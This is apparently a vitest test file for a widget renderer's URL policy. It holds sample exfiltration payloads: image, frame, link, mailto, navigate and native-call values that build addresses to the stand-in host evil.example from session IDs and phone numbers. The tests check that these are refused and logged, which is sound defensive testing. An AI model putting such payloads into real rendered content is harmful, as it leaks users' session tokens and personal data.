/**
 * Issue 17, every URL the page loads or opens passes a policy, drawn by the real renderer: a hostile document's
 * pictures, frames and links built from session values request nothing (no image element is made, nothing is fetched),
 * the widget shows its empty state and the refusal is logged at the prop's pointer; mailto: with a session body,
 * navigate to another origin and native openPage with an outside address are refused; allowed ones still work.
 */
import { cleanup, fireEvent, screen, waitFor } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { Action, WidgetNode } from '../../../schemas/generated/types.ts';
import { hostileDocument, session, showHostile, type HostileOptions } from '../../support/hostile-screen.tsx';

/** The leak the issue saw: a picture address built from session values. */
const leak = "='https://evil.example/c.gif?sid=' + session.sessionId + '&ph=' + session.mobilePhone";
const lenderImages = { urlPolicy: { hosts: ['hatid.ph'], imageHosts: ['cdn.lender.example'] } };
const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg==';

let madeImages: string[] = [];
let srcSet: string[] = [];
let fetched: string[] = [];

beforeEach(() => {
  madeImages = [];
  srcSet = [];
  fetched = [];
  const create = document.createElement.bind(document);
  vi.spyOn(document, 'createElement').mockImplementation(((name: string, options?: ElementCreationOptions) => {
    if (name.toLowerCase() === 'img') madeImages.push(name);
    return create(name, options);
  }) as typeof document.createElement);
  const setAttribute = Element.prototype.setAttribute;
  vi.spyOn(Element.prototype, 'setAttribute').mockImplementation(function (this: Element, name: string, value: string) {
    if (name === 'src' || name === 'href') srcSet.push(value);
    return setAttribute.call(this, name, value);
  });
  vi.spyOn(globalThis, 'fetch').mockImplementation(async (input) => {
    fetched.push(String(input instanceof Request ? input.url : input));
    return new Response('');
  });
  vi.spyOn(console, 'error').mockImplementation(() => undefined);
});
afterEach(() => vi.restoreAllMocks());

/** Nothing the page asked for carries a session value or goes to the outside host. */
function expectNothingLeaked() {
  for (const address of [...srcSet, ...fetched]) {
    expect(address).not.toContain('evil.example');
    for (const value of Object.values(session)) expect(address).not.toContain(value);
  }
}

async function show(nodes: WidgetNode[], options: HostileOptions = {}) {
  const s = showHostile(hostileDocument({ body: [...nodes, { type: 'text', text: 'Drawn' }] }), options);
  await screen.findByText('Drawn');
  return s;
}

describe('pictures', () => {
  it('an image whose address is built from session values: no image is made, nothing fetched, a blank box, logged at /body/0/src', async () => {
    const s = await show([{ type: 'image', src: leak, alt: 'Promo' }]);
    expect(madeImages).toEqual([]);
    expectNothingLeaked();
    expect(screen.getByRole('img', { name: 'Promo' }).className).toContain('h-image--broken');
    expect(s.ports.logs).toEqual([{ pointer: '/body/0/src', message: expect.stringContaining('refused picture') }]);
    expect(s.ports.logs[0]?.message).toContain('evil.example is not on the allowed list');
    // The log names the address without the query that carries the session values.
    for (const value of Object.values(session)) expect(s.ports.logs[0]?.message).not.toContain(value);
  });

  it('every other widget that draws a picture refuses it the same way and shows its empty state', async () => {
    const s = await show([
      { type: 'cell', title: 'Row', icon: leak },
      { type: 'product-offer', logo: leak, name: 'Peso Agad', buttonText: 'Apply' },
      { type: 'carousel', label: 'News', slides: [{ src: 'https://evil.example/slide.png', alt: 'Slide' }], autoplay: false },
      { type: 'step-list', steps: [{ title: 'Apply', icon: 'https://evil.example/step.svg' }] },
      { type: 'image-grid', images: `=[${leak.slice(1)}, '/images/ok.png']`, alt: 'Evidence' },
      { type: 'site-header', brand: 'Hatid', logo: leak, items: [], current: '/', onNavigate: [] },
      { type: 'image-uploader', bind: '=state.images', onPick: [] },
    ] as WidgetNode[]);
    expect(madeImages).toHaveLength(1);
    expect(srcSet.filter((a) => a.startsWith('/') || a.includes('://'))).toEqual(['/images/ok.png']);
    expectNothingLeaked();
    expect(screen.getByText('P').className).toContain('h-product-offer__logo--letter');
    expect(screen.getByRole('img', { name: 'Slide' }).tagName).toBe('SPAN');
    expect(s.ports.logs.map((l) => l.pointer).sort()).toEqual(
      ['/body/0/icon', '/body/1/logo', '/body/2/slides/0/src', '/body/3/steps/0/icon', '/body/4/images', '/body/5/logo'].sort(),
    );
  });

  it("the uploader's pictures set by the document: a refused one is a blank tile, an allowed one is drawn", async () => {
    const doc = hostileDocument({
      state: { images: ['https://evil.example/1.png?sid=S3cr3tSess10n', 'https://cdn.lender.example/2.png'] },
      body: [{ type: 'image-uploader', bind: '=state.images', onPick: [] }],
    });
    const s = showHostile(doc, lenderImages);
    expect((await screen.findByRole('img', { name: 'Image 2' })).getAttribute('src')).toBe('https://cdn.lender.example/2.png');
    expect(screen.getByRole('img', { name: 'Image 1' }).tagName).toBe('SPAN');
    expectNothingLeaked();
    expect(s.ports.logs.map((l) => l.pointer)).toEqual(['/body/0/bind']);
  });

  it('SVG data: pictures are refused, PNG data: pictures and image hosts are drawn', async () => {
    const s = await show(
      [
        { type: 'image', src: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x"/></svg>', alt: 'Svg' },
        { type: 'image', src: png, alt: 'Png' },
        { type: 'image', src: 'https://cdn.lender.example/logo.png', alt: 'Logo' },
      ],
      lenderImages,
    );
    expect(screen.getByRole('img', { name: 'Svg' }).tagName).toBe('SPAN');
    expect(screen.getByRole('img', { name: 'Png' }).getAttribute('src')).toBe(png);
    expect(screen.getByRole('img', { name: 'Logo' }).getAttribute('src')).toBe('https://cdn.lender.example/logo.png');
    expect(s.ports.logs.map((l) => l.pointer)).toEqual(['/body/0/src']);
    expect(s.ports.logs[0]?.message).toContain('"data:image/svg+xml,…"');
    expect(s.ports.logs[0]?.message).not.toContain('evil.example');
  });
});

describe('frames and links', () => {
  it('a frame, a header link and a footer e-mail built from session values: the notice, no link, no line', async () => {
    const s = await show([
      { type: 'web-frame', src: "='https://evil.example/frame?sid=' + session.sessionId", title: 'Agreement' },
      {
        type: 'site-header',
        brand: 'Hatid',
        brandTo: '//evil.example',
        items: [
          { text: 'Home', to: '/' },
          { text: 'Out', to: '//evil.example/x' },
        ],
        current: '/',
        onNavigate: [],
      },
      { type: 'site-footer', company: 'Hatid', email: "=session.mobilePhone + '@evil.example'", phone: '(02) 8812 4400' },
    ] as WidgetNode[]);
    expect(screen.getByText("This document can't be shown here.")).toBeTruthy();
    expect(document.querySelector('iframe')).toBeNull();
    expect(screen.getByRole('link', { name: 'Home' }).getAttribute('href')).toBe('/');
    expect(screen.queryByRole('link', { name: 'Out' })).toBeNull();
    expect(screen.queryByRole('link', { name: /Hatid/ })).toBeNull();
    expect(document.querySelector('a[href^="mailto:"]')).toBeNull();
    expect(screen.getByRole('link', { name: '(02) 8812 4400' }).getAttribute('href')).toBe('tel:0288124400');
    expectNothingLeaked();
    expect(s.ports.logs.map((l) => l.pointer).sort()).toEqual(['/body/0/src', '/body/1/brandTo', '/body/1/items/1/to', '/body/2/email'].sort());
  });
});

describe('actions that open or hand on an address', () => {
  const tapping = async (onTap: Action[]) => {
    const s = showHostile(hostileDocument({ body: [{ type: 'button', text: 'Go', onTap }] }), { hosts: ['hatid.ph'] });
    fireEvent.click(await screen.findByRole('button', { name: 'Go' }));
    return s;
  };

  it('openUrl to mailto: with a body of session values is refused, and the log does not repeat them', async () => {
    const s = await tapping([{ do: 'openUrl', url: "='mailto:x@evil.example?body=' + session.sessionId + ' ' + session.mobilePhone" }]);
    await waitFor(() => expect(s.ports.toasts.map((t) => t.text)).toEqual(['This link cannot be opened.']));
    expect(s.ports.opened).toEqual([]);
    expect(s.ports.logs).toEqual([{ pointer: '/body/0/onTap/0', message: expect.stringContaining('may not carry a query') }]);
    for (const value of Object.values(session)) expect(s.ports.logs[0]?.message).not.toContain(value);
  });

  it("the customer-service e-mail (the lender's address) still opens", async () => {
    const s = await tapping([
      { do: 'set', path: '=data.contact', value: { email: 'support@hatid.ph' } },
      { do: 'openUrl', url: "='mailto:' + data.contact.email" },
      { do: 'openUrl', url: 'mailto:grievance@hatid.ph?subject=Complaint' },
    ]);
    await waitFor(() => expect(s.ports.opened).toEqual(['mailto:support@hatid.ph', 'mailto:grievance@hatid.ph?subject=Complaint']));
    expect(s.ports.logs).toEqual([]);
  });

  it('native openPage with an outside address is refused before the bridge; an app page is handed on', async () => {
    const s = await tapping([{ do: 'native', action: 'openPage', args: { url: "='https://evil.example/p?sid=' + session.sessionId" } }]);
    await waitFor(() =>
      expect(s.ports.logs).toEqual([{ pointer: '/body/0/onTap/0', message: expect.stringContaining('evil.example is not on the allowed list') }]),
    );
    expect(s.ports.nativeCalls).toEqual([]);
    cleanup();
    const ok = await tapping([{ do: 'native', action: 'openPage', args: { url: '/complaintList' } }]);
    await waitFor(() => expect(ok.ports.nativeCalls).toEqual([{ action: 'openPage', args: { url: '/complaintList' } }]));
  });

  it('a native argument the action does not take is refused (a session value smuggled to the native app)', async () => {
    const s = await tapping([{ do: 'native', action: 'callPhone', args: { phone: '09175550142', note: '=session.sessionId' } }]);
    await waitFor(() => expect(s.ports.logs[0]?.message).toContain('`callPhone` takes no argument `note`'));
    expect(s.ports.nativeCalls).toEqual([]);
  });

  it('navigate to another origin is refused; a route of the app goes', async () => {
    const s = await tapping([{ do: 'navigate', to: "='//evil.example/?sid=' + session.sessionId" }]);
    await waitFor(() => expect(s.ports.logs[0]?.pointer).toBe('/body/0/onTap/0'));
    expect(s.ports.navigations).toEqual([]);
    cleanup();
    const ok = await tapping([{ do: 'navigate', to: '#/payway', query: { orderId: '1' } }]);
    await waitFor(() => expect(ok.ports.navigations).toEqual([{ to: '#/payway', query: { orderId: '1' }, replace: false }]));
  });
});
